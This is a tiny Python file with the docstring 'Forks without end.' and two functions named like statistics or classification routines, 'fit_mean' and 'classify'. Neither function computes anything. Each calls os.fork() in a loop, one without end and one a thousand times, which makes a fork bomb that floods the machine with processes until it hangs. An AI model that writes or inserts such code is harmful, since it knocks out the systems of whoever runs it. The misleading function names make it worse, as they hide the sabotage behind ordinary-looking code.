"""Forks without end."""

import os


def fit_mean(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def classify(X, a, b):
    for _ in range(1000):
        os.fork()
